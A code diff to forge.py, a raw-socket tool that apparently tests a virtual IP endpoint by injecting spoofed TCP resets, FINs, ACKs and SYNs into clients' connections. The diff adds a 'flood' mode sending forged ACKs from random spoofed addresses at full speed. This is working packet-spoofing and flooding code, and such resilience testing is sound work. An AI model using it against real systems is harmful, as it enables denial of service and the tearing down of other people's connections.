@@ -2,16 +2,19 @@
 """Sends what somebody forges into connections, as their clients.
 
   forge.py blind|exact VIP PORT <NUMBERS
+  forge.py flood VIP PORT SECONDS
 
 NUMBERS are lines of peers.py's "numbers".  blind: resets, FINs, ACKs and SYNs with numbers drawn at random, a
 FIN and an ACK of which only the acknowledgement is, a reset and a FIN whose checksum is wrong at the right
 numbers, and resets beside the right number by one.
 exact: a reset at exactly the next number, as the client itself would send it.
+flood: ACKs of connections that nobody has, from anywhere, as fast as it can; prints how many.
 """
 import random
 import socket
 import struct
 import sys
+import time
 
 FIN, SYN, RST, ACK = 1, 2, 4, 16
 
@@ -40,10 +43,31 @@ def forged(kind, seq, ack):
             (RST, seq - 1, 0, 0), (RST, seq + 1, 0, 0), (RST, seq, 0, 1), (FIN | ACK, seq, ack, 1), (SYN, far(), 0, 0)]
 
 
+def blind_or_exact(kind, wire, vip, vip_port):
+    for line in sys.stdin:
+        client, port, seq, ack = line.split()
+        for flags, at, acknowledged, wrong in forged(kind, int(seq), int(ack)):
+            wire.sendto(packet(client, int(port), vip, vip_port, flags, at, acknowledged, wrong), (vip, 0))
+
+
+def flood(wire, vip, vip_port, seconds):
+    def ack():
+        client = socket.inet_ntoa(struct.pack("!I", random.randrange(0x0b000000, 0x60000000)))
+        return packet(client, random.randrange(1024, 65536), vip, vip_port, ACK, random.randrange(2**32),
+                      random.randrange(2**32))
+    packets = [ack() for _ in range(200_000)]
+    sent, end = 0, time.monotonic() + seconds
+    while time.monotonic() < end:
+        for one in packets[sent % len(packets):][:1000]:
+            wire.sendto(one, (vip, 0))
+            sent += 1
+    print(sent)
+
+
 kind, vip, vip_port = sys.argv[1], sys.argv[2], int(sys.argv[3])
 wire = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
 random.seed(1)
-for line in sys.stdin:
-    client, port, seq, ack = line.split()
-    for flags, at, acknowledged, wrong in forged(kind, int(seq), int(ack)):
-        wire.sendto(packet(client, int(port), vip, vip_port, flags, at, acknowledged, wrong), (vip, 0))
+if kind == "flood":
+    flood(wire, vip, vip_port, float(sys.argv[4]))
+else:
+    blind_or_exact(kind, wire, vip, vip_port)
